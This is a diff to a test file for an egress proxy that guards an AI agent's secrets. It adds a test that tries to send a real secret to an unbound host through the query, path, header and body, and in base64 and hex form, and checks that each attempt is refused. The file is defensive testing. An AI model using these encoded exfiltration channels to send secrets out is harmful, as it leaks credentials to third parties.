@@ -47,10 +47,12 @@ const echoing = (req: http.IncomingMessage, res: http.ServerResponse, body: Buff
 const api = await startUpstream(t, { handler: echoing });
 const other = await startUpstream(t);
 const evil = await startUpstream(t);
+/** other.example on another port, only for the real-value attempts (so they never mix with the rest). */
+const otherValue = await startUpstream(t);
 const a = await startTestAirlock(t, {
   policy: 'exfil', secrets: { api: SECRET },
   resolve: ['allowed.example=127.0.0.1', 'other.example=127.0.0.1', 'evil.example=127.0.0.1'],
-  allowPrivate: [`127.0.0.1:${api.port}`, `127.0.0.1:${other.port}`, `127.0.0.1:${evil.port}`],
+  allowPrivate: [`127.0.0.1:${api.port}`, `127.0.0.1:${other.port}`, `127.0.0.1:${evil.port}`, `127.0.0.1:${otherValue.port}`],
 });
 const PH = a.placeholders.api!;
 const apiUrl = `http://allowed.example:${api.port}`;
@@ -93,6 +95,28 @@ t.test('placeholder sent to an allowed host it is not bound to: refused, never s
   }
   t.equal(other.received.length, 0, 'other.example received nothing');
   assertNoLeak(t, [other], 'placeholder to other.example');
+});
+
+t.test('the real value itself (an agent that learned it elsewhere) is refused on its way to an unbound host', async (t) => {
+  // Defence in depth: the agent should never hold the value, but a user may paste it into a prompt.
+  const o = `http://other.example:${otherValue.port}`;
+  const attempts: Array<[string, string, Parameters<typeof viaProxy>[2] & {}]> = [
+    ['query', `${o}/?k=${SECRET}`, {}],
+    ['path', `${o}/${SECRET}`, {}],
+    ['header', `${o}/`, { headers: { 'x-data': SECRET } }],
+    ['body', `${o}/`, { method: 'POST', headers: { 'content-type': 'text/plain' }, body: `key=${SECRET}` }],
+    ['base64 body', `${o}/`, { method: 'POST', headers: { 'content-type': 'text/plain' }, body: Buffer.from(SECRET).toString('base64') }],
+    ['hex query', `${o}/?d=${Buffer.from(SECRET).toString('hex')}`, {}],
+  ];
+  const statuses: string[] = [];
+  for (const [where, url, opts] of attempts) {
+    const r = await viaProxy(a.port, url, { auth: a.auth, ...opts });
+    statuses.push(`${where}=${r.status}`);
+    t.equal(r.status, 403, `${where}: refused`);
+  }
+  t.comment(statuses.join(' '));
+  t.equal(otherValue.received.length, 0, 'other.example received none of them');
+  t.same(leaks(otherValue.bytes()), [], 'other.example never received the value in any form');
 });
 
 t.test('placeholder sent to an unknown host: denied, nothing leaves', async (t) => {
